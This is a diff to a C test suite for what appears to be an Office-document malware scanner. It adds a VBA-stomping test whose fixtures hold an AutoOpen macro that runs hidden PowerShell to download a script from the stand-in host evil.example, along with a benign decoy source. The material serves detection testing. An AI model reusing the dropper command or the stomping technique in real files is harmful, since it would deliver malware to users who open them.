@@ -190,12 +190,23 @@ rec_add(GByteArray *b, uint16_t id, const void *d, uint32_t n)
 	g_byte_array_append(b, d, n);
 }
 
+static GByteArray *vba_dir_at(const char *module, uint32_t offset);
+
 static GByteArray *
 vba_dir(const char *module)
 {
+	return vba_dir_at(module, 0);
+}
+
+/* A dir stream with one module whose source starts at offset. */
+static GByteArray *
+vba_dir_at(const char *module, uint32_t offset)
+{
 	GByteArray *d = g_byte_array_new();
-	uint8_t cp[2] = { 0xE4, 0x04 }, off[4] = { 0, 0, 0, 0 };
+	uint8_t cp[2] = { 0xE4, 0x04 }, off[4];
 	GByteArray *c;
+
+	set32(off, offset);
 
 	rec_add(d, 0x0003, cp, 2);
 	rec_add(d, 0x0019, module, (uint32_t)strlen(module));
@@ -936,6 +947,71 @@ START_TEST(userform_text)
 }
 END_TEST
 
+/* EvilClippy-style stomping: p-code of a dropper, a decoy source. */
+START_TEST(vba_stomped)
+{
+	static const char decoy[] = "Attribute VB_Name = \"Module1\"\r\n"
+	    "Sub Hello()\r\n  MsgBox \"Hello\"\r\nEnd Sub\r\n";
+	static const char pcode[] = "\xcc\x61\xff\xff\x00\x00 AutoOpen "
+	    "\x01\x00WScript.Shell\x00\x02\x00powershell -w hidden iwr "
+	    "http://evil.example/s.ps1\x00\x00\x00";
+	GByteArray *code = g_byte_array_new(), *src, *dir;
+	GByteArray *empty = g_byte_array_new();
+	struct cfb_ent e[4];
+	GByteArray *cfb;
+	char *json;
+	const char *const want[] = { "\"VBA_STOMPED\"",
+		"Module1: p-code has WScript.Shell", "p-code has powershell",
+		"p-code has http://evil.example/s.ps1", NULL };
+	const char *const not[] = { "\"MACRO_SUSPICIOUS\"", NULL };
+
+	g_byte_array_append(code, (const uint8_t *)pcode, sizeof(pcode) - 1);
+	src = ovba_compress(decoy, strlen(decoy));
+	dir = vba_dir_at("Module1", code->len);
+	g_byte_array_append(code, src->data, src->len);
+	e[0] = (struct cfb_ent){ "_VBA_PROJECT_CUR", -1, true, empty };
+	e[1] = (struct cfb_ent){ "VBA", 0, true, empty };
+	e[2] = (struct cfb_ent){ "dir", 1, false, dir };
+	e[3] = (struct cfb_ent){ "Module1", 1, false, code };
+	cfb = cfb_build(e, 4);
+	json = scan_json(cfb->data, cfb->len, "vbaProject.bin");
+	want_in(json, want, true);
+	want_in(json, not, false);	/* the decoy source is clean */
+	g_free(json);
+	g_byte_array_free(cfb, TRUE);
+
+	/* The same p-code with its own source: not stomped. */
+	{
+		static const char real[] = "Attribute VB_Name = \"Module1\""
+		    "\r\nSub AutoOpen()\r\n Set s = CreateObject(\"WScript."
+		    "Shell\")\r\n s.Run \"powershell -w hidden iwr http://"
+		    "evil.example/s.ps1\"\r\nEnd Sub\r\n";
+
+		g_byte_array_free(src, TRUE);
+		g_byte_array_free(dir, TRUE);
+		g_byte_array_set_size(code, 0);
+		g_byte_array_append(code, (const uint8_t *)pcode,
+		    sizeof(pcode) - 1);
+		src = ovba_compress(real, strlen(real));
+		dir = vba_dir_at("Module1", code->len);
+		g_byte_array_append(code, src->data, src->len);
+		e[2].data = dir;
+		e[3].data = code;
+		cfb = cfb_build(e, 4);
+		json = scan_json(cfb->data, cfb->len, "vbaProject.bin");
+		ck_assert_msg(strstr(json, "\"VBA_STOMPED\"") == NULL,
+		    "source matches its p-code: %.2000s", json);
+		ck_assert_ptr_nonnull(strstr(json, "\"MACRO_SUSPICIOUS\""));
+		g_free(json);
+		g_byte_array_free(cfb, TRUE);
+	}
+	g_byte_array_free(src, TRUE);
+	g_byte_array_free(dir, TRUE);
+	g_byte_array_free(code, TRUE);
+	g_byte_array_free(empty, TRUE);
+}
+END_TEST
+
 /* oleobj's samples: OLE packages inside .doc and .ppt, unpacked. */
 START_TEST(corpus_ole_packages)
 {
@@ -989,6 +1065,7 @@ office_suite(void)
 	tcase_add_test(tc, dde_fields);
 	tcase_add_test(tc, corpus_ole_packages);
 	tcase_add_test(tc, userform_text);
+	tcase_add_test(tc, vba_stomped);
 	suite_add_tcase(s, tc);
 	return s;
 }
